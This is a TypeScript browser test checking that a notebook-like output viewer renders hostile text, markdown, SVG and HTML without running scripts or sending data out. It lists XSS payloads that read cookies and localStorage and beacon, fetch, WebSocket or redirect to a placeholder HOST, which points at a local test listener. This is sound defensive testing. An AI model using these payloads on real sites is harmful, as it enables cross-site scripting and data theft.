// Outputs that mean harm to who looks at them: nothing of them runs in the page, nothing leaves.
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { test, type TestContext } from "node:test";
import { startBrowser } from "../support/browser.ts";
import { openStage, put, readCases } from "../support/outputs-page.ts";

/** Somebody who would like to hear of it. */
async function listen(context: TestContext): Promise<{ host: string; heard: string[] }> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? "");
    response.end();
  });
  server.on("upgrade", (request, socket) => {
    heard.push(request.url ?? "");
    socket.destroy();
  });
  server.listen(0, "127.0.0.1");
  context.after(() => {
    server.closeAllConnections();
    server.close();
  });
  await once(server, "listening");
  return { host: `127.0.0.1:${(server.address() as AddressInfo).port}`, heard };
}

/** Runs where it should not, or tells somebody that it runs where it may. `HOST` is who listens. */
const act = "parent.hacked = top.hacked = window.hacked = 1; ";
const leave = [
  "fetch('http://HOST/fetch')",
  "navigator.sendBeacon('http://HOST/beacon')",
  "new WebSocket('ws://HOST/socket')",
  "new EventSource('http://HOST/events')",
  "new Image().src = 'http://HOST/image'",
  "import('http://HOST/module.js')",
  "new Worker('http://HOST/worker.js')",
  "open('http://HOST/open')",
  "top.location = 'http://HOST/top'",
  "document.body.innerHTML += '<form action=http://HOST/form><button id=b>'; b.click()",
  "document.cookie",
  "localStorage.length",
  "parent.document.title",
  "alert(1)",
];
const tried = (code: string): string => `try { ${code} } catch {}`;
const script = [act, ...leave].map((code) => `<script>${tried(code)}</script>`).join("");

const read = (name: string): string[] =>
  readCases(`outputs/hostile-${name}.txt`).map((text) =>
    text.replaceAll("\\e", "\x1b").replaceAll("\\n", "\n"),
  );
const markups = [`<p>seen</p>${script}`, ...read("html")];
/** These take their own frame elsewhere, or would like to. */
const escapes = [
  "<script>location = 'http://HOST/location'</script>",
  '<p>seen</p><meta http-equiv="refresh" content="0;url=http://HOST/refresh">',
  "<a id=a href='http://HOST/link' target=_self>away</a><script>a.click()</script>",
];
const wordsOf = (text: string): string => text.replaceAll("window.hacked", "parent.hacked");

test("outputs that mean harm do none", async (context) => {
  const { host, heard } = await listen(context);
  const browser = await startBrowser(context);
  const { page, faults, show, expectFault } = await openStage(context, browser);
  const of = (text: string): string => text.replaceAll("HOST", host);
  // What they try is told, and forbidden: that is how it should be. What was asked for and
  // forbidden is a request, too; it never leaves.
  const forbidden =
    /^a request|Content Security Policy|sandbox|Blocked a|Not allowed|^uncaught (?!.*page\.js)/i;
  const check = async (kind: string, contents: string[], see: (ids: string[]) => Promise<void>) => {
    const ids = contents.map((_, index) => `${kind}-${contents.length}-${index}`);
    for (const [index, content] of contents.entries()) {
      const stream = { stream: "stdout", text: of(content) } as const;
      const data = { "text/plain": "none", [kind]: of(content) };
      await put(page, ids[index]!, kind === "text" ? stream : { kind: "display", data });
    }
    await show(ids);
    await see(ids);
    assert.equal(await page.evaluate("window.hacked"), undefined, kind);
    assert.equal(await page.evaluate("typeof book.onOutput"), "function");
    assert.deepEqual(heard, [], kind);
  };
  await check("text", read("text"), () => page.getByText("seen").nth(2).waitFor());
  assert.equal(await page.locator("a").count(), 0);
  await check("text/markdown", read("markdown"), () => page.getByText("seen").nth(3).waitFor());
  assert.equal(
    await page.locator("a[href^=javascript], .out script, .out style, .out iframe").count(),
    0,
  );
  await check("image/svg+xml", read("svg"), () => page.locator("img").nth(2).waitFor());
  await check("text/html", [...markups, ...markups.map(wordsOf)], async (ids) => {
    for (const id of ids) {
      const region = page.getByRole("region", { name: `Output of ${id}`, exact: true });
      const framed = region.frameLocator("iframe").getByText("seen").first();
      await Promise.any([region.getByText("seen").waitFor(), framed.waitFor()]);
    }
    assert.ok((await page.locator("iframe").count()) > markups.length);
  });
  await check("text/html", escapes, async () => {
    const isStopped = (fault: string): boolean => /^Framing .* "frame-src 'self'"/.test(fault);
    while (faults.filter(isStopped).length < escapes.length) await page.waitForEvent("console");
  });
  const told = await expectFault(forbidden);
  assert.deepEqual(
    faults.filter((fault) => !forbidden.test(fault)),
    [],
  );
  assert.ok(told.length > 5);
  assert.deepEqual(heard, []);
});
